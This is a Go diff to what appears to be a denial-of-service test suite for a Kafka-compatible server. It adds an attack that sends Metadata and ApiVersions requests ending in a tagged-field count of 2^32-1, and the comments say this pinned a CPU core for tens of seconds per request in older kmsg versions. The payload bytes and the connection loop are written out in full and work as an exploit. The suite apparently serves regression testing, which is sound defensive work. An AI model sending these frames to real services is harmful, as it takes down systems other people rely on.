@@ -45,6 +45,9 @@ func allocationAttacks() []Attack {
 		{Name: "kafka-producer-id-churn", Issue: 14, Listener: Kafka,
 			What:  "4 connections on 4 IPs: InitProducerId, then one idempotent Produce to 16 partitions per fresh producer id",
 			Setup: createAttackTopics, Run: kafkaProducerIDChurn},
+		{Name: "kafka-tagged-field-count", Issue: 14, Listener: Kafka,
+			What: "16 connections on 16 IPs send 40-byte Metadata v12 and ApiVersions v3 requests whose tagged-field count is 2^32-1",
+			Run:  kafkaTaggedFieldCount},
 		{Name: "http-rest-produce-tiny-records", Issue: 14, Listener: HTTP,
 			What: "4 connections on 4 IPs POST 9 MiB bodies of ~790k tiny JSON records to /topics/attack-rest",
 			Run:  httpRESTTinyRecords},
@@ -68,6 +71,36 @@ func kafkaClaimedCount(ctx context.Context, t *Target) error {
 		once(ctx, AttackerIP(w), t.KafkaAddr, func(ctx context.Context, c net.Conn) {
 			for ctx.Err() == nil && writeAll(c, frame) {
 				drainFor(c, 10*time.Millisecond)
+			}
+		})
+	})
+}
+
+// kafkaTaggedFieldCount sends flexible requests whose body ends with a
+// tagged-field count of 2^32-1 and nothing after it. kmsg up to v1.15.0
+// went on counting down after the bytes ran out (a map write each time):
+// 20-40 s of a core for one 40-byte request (found by FuzzParseHeader),
+// so a few such requests held every pool worker, or the loop itself.
+func kafkaTaggedFieldCount(ctx context.Context, t *Target) error {
+	bomb := []byte{0xff, 0xff, 0xff, 0xff, 0x0f} // uvarint 2^32-1
+	flexible := func(key, version int16, body []byte) []byte {
+		f := kafkaHead(0, key, version, 1)
+		f = append(f, 0) // request header tags: none
+		f = append(f, body...)
+		f = append(f, bomb...)
+		binary.BigEndian.PutUint32(f, uint32(len(f)-4))
+		return f
+	}
+	frames := [][]byte{
+		flexible(3, 12, []byte{0, 0, 0}),        // Metadata: topics null, no auto-create, no authorized ops
+		flexible(18, 3, []byte{2, 'a', 2, '1'}), // ApiVersions: software name "a", version "1"
+	}
+	// More connections than pool workers: with the old kmsg every worker
+	// was held (one request at a time per connection, in order).
+	return repeat(ctx, t.N(16), func(ctx context.Context, w int) {
+		once(ctx, AttackerIP(w), t.KafkaAddr, func(ctx context.Context, c net.Conn) {
+			for i := 0; ctx.Err() == nil && writeAll(c, frames[i%len(frames)]); i++ {
+				drainFor(c, 5*time.Millisecond)
 			}
 		})
 	})
